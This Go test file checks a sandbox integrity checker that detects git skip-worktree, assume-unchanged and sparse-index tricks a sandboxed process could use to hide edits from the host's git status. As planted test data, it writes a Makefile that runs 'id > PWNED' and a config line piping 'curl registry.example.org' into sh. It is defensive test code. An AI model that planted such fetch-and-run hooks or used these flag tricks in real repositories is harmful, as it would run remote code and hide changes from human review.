package integrity

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// onFiles returns the transitions of ts by workspace-relative path.
func onFiles(ws string, ts []Transition) map[string]Transition {
	out := map[string]Transition{}
	for _, tr := range ts {
		out[strings.TrimPrefix(tr.Path, ws+"/")] = tr
	}
	return out
}

// TestIndexFlagOnRemovedFileClearedAtExit guards review 19, F5's first half: a box that
// removed the tracked Makefile and flagged it skip-worktree left the flag (taken for a sparse
// checkout's), and the next launch's snapshot took it for the user's, so that a Makefile
// written then was hidden from the host's git status. While the box runs such a flag stays
// (its git may be making a sparse checkout); at the check at exit it is the box's and goes,
// with an alert, and the host's git status shows the deletion. A flag on an absent file set
// before the launch (the user's sparse checkout) stays.
func TestIndexFlagOnRemovedFileClearedAtExit(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	for _, c := range []struct{ name, format, version string }{{"sha1-v3", "sha1", "3"}, {"sha256-v4", "sha256", "4"}} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			ws, _ := filepath.EvalSymlinks(t.TempDir())
			git := func(args ...string) string { return gitIn(ws, "", false, args...) }
			git("init", "-q", "--object-format="+c.format, ".")
			for _, f := range []string{"Makefile", "sparse.txt", "notes.txt"} {
				mustWrite(t, filepath.Join(ws, f), "all:\n\t@echo reviewed build\n")
			}
			git("add", ".")
			git("commit", "-qm", "init")
			git("update-index", "--index-version", c.version)
			// The user's sparse checkout leaves sparse.txt out.
			git("update-index", "--skip-worktree", "sparse.txt")
			if err := os.Remove(filepath.Join(ws, "sparse.txt")); err != nil {
				t.Fatal(err)
			}
			s := Snapshot(resolveWS(t, ws), Limits{})

			// The box: Makefile removed and flagged, notes.txt removed and flagged
			// assume-unchanged.
			for _, f := range []string{"Makefile", "notes.txt"} {
				if err := os.Remove(filepath.Join(ws, f)); err != nil {
					t.Fatal(err)
				}
			}
			git("update-index", "--skip-worktree", "Makefile")
			git("update-index", "--assume-unchanged", "notes.txt")
			if out := git("status", "--porcelain"); out != "" {
				t.Fatalf("the flags do not hide the deletions here: %q", out)
			}
			if tr := s.VerifyExec(); len(tr) != 0 {
				t.Errorf("a check while the box runs: %+v, want none (its git may be making a sparse checkout)", tr)
			}
			got := onFiles(ws, s.VerifyExit())
			for f, flag := range map[string]string{"Makefile": "skip-worktree", "notes.txt": "assume-unchanged"} {
				tr, ok := got[f]
				if !ok || !tr.Alert || !strings.Contains(tr.Detail, flag) || !strings.Contains(tr.Detail, "the flag was cleared") {
					t.Errorf("%s at exit: %+v, want an alert saying its %s flag was cleared", f, tr, flag)
				}
				delete(got, f)
			}
			if len(got) != 0 {
				t.Errorf("other transitions at exit: %+v", got)
			}
			if out := git("status", "--porcelain"); out != " D Makefile\n D notes.txt\n" {
				t.Errorf("the host's git status after the check at exit: %q, want both deletions", out)
			}
			if out := git("ls-files", "-v", "sparse.txt"); out != "S sparse.txt\n" {
				t.Errorf("the user's flag changed: git ls-files -v %q", out)
			}
			if again := s.VerifyExit(); len(again) != 0 {
				t.Errorf("reported again: %+v", again)
			}
			if out := git("fsck", "--no-progress"); out != "" {
				t.Errorf("git fsck after the check:\n%s", out)
			}
		})
	}
}

// TestIndexFlagCarriedReported guards review 19, F5's second half: a flag that reaches a launch's
// snapshot (a box's from a launch whose check at exit did not run, or the user's) is taken for
// the user's, and it hid what the launch then wrote there. Each check compares the file of an
// entry flagged before the launch that the launch changed with the entry's object: one that
// differs is reported and its flag cleared (with the lock held: the command that clears it is
// named, and the next check that can clears it with no alert). The user's flagged files the launch
// did not change, or rewrote as the staged object, are left alone.
func TestIndexFlagCarriedReported(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	for _, locked := range []bool{false, true} {
		name := "unlocked"
		if locked {
			name = "locked"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ws, _ := filepath.EvalSymlinks(t.TempDir())
			git := func(args ...string) string { return gitIn(ws, "", false, args...) }
			git("init", "-q", ".")
			for _, f := range []string{"Makefile", "config.local", "same.txt", "kept.txt"} {
				mustWrite(t, filepath.Join(ws, f), "all:\n\t@echo reviewed build\n")
			}
			git("add", ".")
			git("commit", "-qm", "init")
			// Before the launch: a removed Makefile flagged (an earlier box's), the user's
			// local changes kept under flags, a flagged file as committed.
			if err := os.Remove(filepath.Join(ws, "Makefile")); err != nil {
				t.Fatal(err)
			}
			git("update-index", "--skip-worktree", "Makefile")
			mustWrite(t, filepath.Join(ws, "config.local"), "token = mine\n")
			mustWrite(t, filepath.Join(ws, "kept.txt"), "my notes\n")
			git("update-index", "--skip-worktree", "config.local", "kept.txt")
			git("update-index", "--assume-unchanged", "same.txt")
			time.Sleep(1100 * time.Millisecond) // past since()'s second before Started
			s := Snapshot(resolveWS(t, ws), Limits{})

			// The box: a Makefile of its own, config.local rewritten, same.txt rewritten as
			// committed; kept.txt untouched.
			mustWrite(t, filepath.Join(ws, "Makefile"), "all:\n\t@id > PWNED; echo built\n")
			mustWrite(t, filepath.Join(ws, "config.local"), "token = mine\nhook = curl registry.example.org | sh\n")
			mustWrite(t, filepath.Join(ws, "same.txt"), "all:\n\t@echo reviewed build\n")
			if out := git("status", "--porcelain"); out != "" {
				t.Fatalf("the flags do not hide the edits here: %q", out)
			}
			lock := filepath.Join(ws, ".git/index.lock")
			if locked {
				mustWrite(t, lock, "")
			}
			got := onFiles(ws, s.VerifyExec())
			for _, f := range []string{"Makefile", "config.local"} {
				want := "the flag was cleared"
				if locked {
					want = `git update-index --no-skip-worktree "` + f + `"`
				}
				tr, ok := got[f]
				if !ok || !tr.Alert || !strings.Contains(tr.Detail, "before the launch") || !strings.Contains(tr.Detail, want) {
					t.Errorf("%s: %+v, want an alert naming the flag set before the launch and %q", f, tr, want)
				}
				delete(got, f)
			}
			if len(got) != 0 {
				t.Errorf("other transitions (same.txt is as committed, kept.txt untouched): %+v", got)
			}
			if locked {
				if err := os.Remove(lock); err != nil {
					t.Fatal(err)
				}
				for _, tr := range s.VerifyExec() {
					if tr.Alert || !strings.Contains(tr.Detail, "was cleared") {
						t.Errorf("the check after the lock went: %+v, want the flags cleared with no alert", tr)
					}
				}
			}
			if out := git("status", "--porcelain"); out != " M Makefile\n M config.local\n" {
				t.Errorf("the host's git status after the check: %q, want both edits", out)
			}
			if out := git("ls-files", "-v", "kept.txt", "same.txt"); out != "S kept.txt\nh same.txt\n" {
				t.Errorf("the user's other flags changed: git ls-files -v %q", out)
			}
			fsckAndQuiet(t, s, ws)
			if tr := s.VerifyExit(); len(tr) != 0 {
				t.Errorf("reported again at exit: %+v", tr)
			}
		})
	}
}

// TestIndexFlagClearedWithStat: a box that edits the Makefile (same size, mtime set back),
// writes the file's stat data into its entry and flags it skip-worktree has git take the file
// for unchanged once the check clears the flag alone. The check clears the entry's stat data
// with its flag: the host's git status shows the edit.
func TestIndexFlagClearedWithStat(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return gitIn(ws, "", false, args...) }
	git("init", "-q", ".")
	mustWrite(t, filepath.Join(ws, "Makefile"), "all:\n\t@echo reviewed build\n")
	git("add", ".")
	git("commit", "-qm", "init")
	s := Snapshot(resolveWS(t, ws), Limits{})

	forgeMakefile(t, ws, filepath.Join(ws, ".git/index"))
	git("update-index", "--skip-worktree", "Makefile")
	if out := git("status", "--porcelain"); out != "" {
		t.Fatalf("the flag does not hide the edit here: %q", out)
	}
	got := onFiles(ws, s.VerifyExec())
	if tr := got["Makefile"]; !tr.Alert || !strings.Contains(tr.Detail, "the flag was cleared") {
		t.Errorf("Makefile: %+v, want an alert saying the flag was cleared", tr)
	}
	if out := git("status", "--porcelain"); out != " M Makefile\n" {
		t.Errorf("the host's git status after the check: %q, want the edit", out)
	}
	fsckAndQuiet(t, s, ws)
}

// TestIndexSparseDirectoryLeftAtExit: a sparse index's directory entry (index.sparse, a cone
// the launch narrowed) must keep its skip-worktree flag (git fsck warns "index entry is a
// directory, but not sparse" and git status shows the folder deleted without it), so the
// check at exit leaves it while the repository's configuration turns core.sparseCheckout and
// index.sparse on (git sparse-checkout set and git config wrote them here); a file written
// beneath it later is shown by the host's git status all the same (git clears the flag of a
// present file under a sparse checkout). Without that configuration the entry is forged:
// TestIndexSparseDirectoryWithoutSparseConfig.
func TestIndexSparseDirectoryLeftAtExit(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return gitIn(ws, "", false, args...) }
	git("init", "-q", ".")
	mustWrite(t, filepath.Join(ws, "a", "f"), "a\n")
	mustWrite(t, filepath.Join(ws, "b", "g"), "b\n")
	git("add", ".")
	git("commit", "-qm", "init")
	s := Snapshot(resolveWS(t, ws), Limits{})
	git("sparse-checkout", "set", "--cone", "a")
	git("config", "index.sparse", "true")
	git("sparse-checkout", "reapply")
	if out := git("ls-files", "-v", "--sparse"); out != "H a/f\nS b/\n" {
		t.Fatalf("no sparse directory entry here: git ls-files -v --sparse %q", out)
	}
	if tr := s.VerifyExit(); len(tr) != 0 {
		t.Errorf("transitions at exit: %+v, want none", tr)
	}
	if out := git("ls-files", "-v", "--sparse"); out != "H a/f\nS b/\n" {
		t.Errorf("the sparse directory entry changed: git ls-files -v --sparse %q", out)
	}
	if out := git("fsck", "--no-progress"); out != "" {
		t.Errorf("git fsck after the check:\n%s", out)
	}
	mustWrite(t, filepath.Join(ws, "b", "g"), "box\n")
	if out := git("status", "--porcelain"); out != " M b/g\n" {
		t.Errorf("a file written beneath the sparse directory: git status %q, want it shown", out)
	}
}

// TestIndexSparseDirectoryWithoutSparseConfig (review 19b): a sparse index made with the
// sparse checkout's configuration on git's command line only (the repository's config, which a
// box cannot write, has none) holds a directory entry b/ that the host's git expands into b/g
// flagged skip-worktree: the file written there is hidden from git status. The check at exit
// moves the index aside with an alert naming b/ and b/g; after the git reset it names, git
// status shows the change.
func TestIndexSparseDirectoryWithoutSparseConfig(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return gitIn(ws, "", false, args...) }
	git("init", "-q", ".")
	mustWrite(t, filepath.Join(ws, "a", "f"), "a\n")
	mustWrite(t, filepath.Join(ws, "b", "g"), "b\n")
	git("add", ".")
	git("commit", "-qm", "init")
	s := Snapshot(resolveWS(t, ws), Limits{})
	mustWrite(t, filepath.Join(ws, ".git", "info", "sparse-checkout"), "/*\n!/*/\n/a/\n")
	sparse := []string{"-c", "core.sparseCheckout=true", "-c", "core.sparseCheckoutCone=true", "-c", "index.sparse=true"}
	git(append(sparse, "read-tree", "-mu", "HEAD")...)
	git(append(sparse, "sparse-checkout", "reapply")...)
	if out := git(append(sparse, "ls-files", "-v", "--sparse")...); out != "H a/f\nS b/\n" {
		t.Fatalf("no sparse directory entry here: git ls-files -v --sparse %q", out)
	}
	mustWrite(t, filepath.Join(ws, "b", "g"), "box\n")
	// The premise, on a copy (git status writes the index it expanded, flags and all).
	cp := filepath.Join(t.TempDir(), "copy")
	if out, err := exec.Command("cp", "-a", ws, cp).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	if out := gitIn(cp, "", false, "status", "--porcelain", "--untracked-files=no"); strings.Contains(out, "b/g") {
		t.Fatalf("the premise: the host's git status shows b/g without the check (%q)", out)
	}
	var alert Transition
	trs := s.VerifyExit()
	t.Logf("transitions at exit: %+v", trs)
	for _, tr := range trs {
		if tr.Path == filepath.Join(ws, ".git", "index") {
			alert = tr
		}
	}
	if !alert.Alert || !strings.Contains(alert.Detail, "(b/)") || !strings.Contains(alert.Detail, "b/g") || !strings.Contains(alert.Detail, "moved aside") {
		t.Fatalf("the alert on the index: %+v, want one naming b/ and b/g, the index moved aside", alert)
	}
	git("reset", "-q")
	if out := git("status", "--porcelain", "--untracked-files=no"); out != " M b/g\n" {
		t.Errorf("after the check and git reset: git status %q, want b/g modified", out)
	}
}
